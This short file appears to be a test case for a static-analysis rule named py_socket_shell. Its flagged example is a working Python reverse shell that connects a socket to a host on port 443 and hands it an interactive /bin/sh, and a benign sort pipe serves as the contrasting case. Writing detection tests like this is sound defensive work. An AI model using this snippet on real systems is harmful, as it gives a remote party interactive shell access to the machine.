# The socket object itself handed to the shell's process (Popen reads its fileno()).
import socket, subprocess
s = socket.create_connection((host, 443), timeout=4)
# ruleid: py_socket_shell
subprocess.Popen(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s, start_new_session=True)
# ok: py_socket_shell
subprocess.Popen(['sort'], stdin=src, stdout=dst)
